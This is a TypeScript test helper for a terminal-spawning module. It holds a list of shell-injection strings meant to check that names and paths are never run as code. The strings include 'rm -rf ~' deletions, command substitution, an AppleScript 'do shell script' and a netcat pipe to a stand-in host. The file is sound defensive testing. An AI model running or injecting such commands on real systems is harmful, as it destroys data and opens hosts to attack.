// Shared by the terminal tests.
import type { SpawnedChild, SpawnLike } from './create-terminal';

/** Strings an instance's name, user, host or key path must never turn into code. */
export const HOSTILE = [
  '; rm -rf ~',
  '$(touch /tmp/flotilla-pwned)',
  '`id`',
  "it's",
  'say "hi"',
  'back\\slash\\',
  "'; rm -rf ~; echo '",
  '"; do shell script "rm -rf ~" --',
  '&& calc.exe',
  '| nc evil 1',
  '$HOME ${PATH} %PATH% !x',
  '*?[a]~',
  '‘smart’ quotes',
  '',
  'ünïcödé ☃',
];

/**
 * A spawn that records each command and its arguments and answers a child that starts on the
 * next tick (its 'spawn' listener runs; it never errors or closes).
 */
export function recordingSpawn(): { spawn: SpawnLike; calls: Array<{ command: string; args: string[] }> } {
  const calls: Array<{ command: string; args: string[] }> = [];
  const spawn: SpawnLike = (command, args) => {
    calls.push({ command, args });
    const child: SpawnedChild = {
      once: ((event: string, listener: () => void) => {
        if (event === 'spawn') setImmediate(listener);
        return child;
      }) as SpawnedChild['once'],
      unref: () => undefined,
    };
    return child;
  };
  return { spawn, calls };
}
